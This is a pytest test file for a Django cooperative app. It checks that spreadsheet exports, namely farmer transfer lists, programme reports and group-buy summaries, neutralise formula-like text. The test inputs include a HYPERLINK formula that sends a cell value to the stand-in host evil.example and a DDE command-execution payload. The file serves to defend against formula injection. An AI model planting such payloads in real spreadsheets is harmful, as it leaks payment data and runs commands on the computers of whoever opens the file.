"""No exported cell is a formula (issue 15, item 8).

The transfer list wrote payment references and names raw: openpyxl stores any string starting with
``=`` as a formula, so ``=HYPERLINK(…)`` became a live link beside the account numbers. Every export
now writes its cells through ``coop.lib.files.sheet_cell``.
"""

import io
from decimal import Decimal

import pytest
from django.utils import timezone
from openpyxl import load_workbook

from coop.lib.files import sheet_cell
from coop.models import Settlement
from coop.services.settlements import approve_settlement, month_bounds, pay_settlement, settle_period
from orders.services.impact import programme_report, report_workbook
from tests.factories import buy, deliver, set_prices

pytestmark = pytest.mark.django_db

LINK = '=HYPERLINK("http://evil.example/?"&G2,"点击核对")'


def _formulas(content):
    wb = load_workbook(io.BytesIO(content))
    return [c.coordinate for ws in wb.worksheets for row in ws.iter_rows() for c in row if c.data_type == "f"]


@pytest.mark.parametrize("text", ["=1+1", "+1", "-1", "@SUM(A1)", "\t=1", "\r=1"])
def test_it_marks_formula_like_text_as_text(text):
    assert sheet_cell(text) == "'" + text


def test_it_leaves_numbers_dates_and_plain_text(text="吉克拉哈"):
    today = timezone.localdate()
    assert [sheet_cell(v) for v in (text, -3, Decimal("-1.50"), today, None)] == [text, -3, Decimal("-1.50"),
                                                                                 today, None]


def test_it_writes_no_formula_into_the_transfer_list(personas, client_for):
    set_prices(personas.coop_a)
    farmer = personas.farmer_a
    farmer.head_name = "=1+2"
    farmer.payout_account = "6222020200112233445"
    farmer.save()
    deliver(farmer, accepted={"L": 20})
    start, end = month_bounds(timezone.localdate())
    settle_period(period_start=start, period_end=end)
    s = Settlement.objects.get()
    approve_settlement(s)
    pay_settlement(s, reference=LINK)
    resp = client_for(personas.manager_a).get(f"/books/settlements/export.xlsx?month={start:%Y-%m}")
    assert resp.status_code == 200
    assert _formulas(resp.content) == []
    row = [c.value for c in load_workbook(io.BytesIO(resp.content)).active[2]]
    assert row[2] == "'=1+2" and row[11] == "'" + LINK and row[6] == "6222020200112233445"


def test_it_writes_no_formula_into_a_programme_report(personas, pairing):
    pairing.farmers[0].head_name = "=cmd|' /C calc'!A0"
    pairing.farmers[0].save()
    buy(pairing, 2, personas.manager_a)
    report = programme_report(pairing.programme)
    assert any(r["name"].startswith("=") for r in report["households"])  # masked, still a formula
    assert _formulas(report_workbook(report)) == []


def test_it_writes_no_formula_into_a_group_buy_summary(world, client_for):
    from orders.models import GroupBuy

    gb = GroupBuy.objects.filter(cooperative=world.personas.coop_a).first()
    gb.title = "=1+1"
    gb.save()
    order = world.orders["a"]
    order.buyer.name = "=HYPERLINK(\"x\")"
    order.buyer.save()
    resp = client_for(gb.leader).get(f"/shop/g/{gb.code}/summary/?format=xlsx")
    assert resp.status_code == 200
    assert _formulas(resp.content) == []
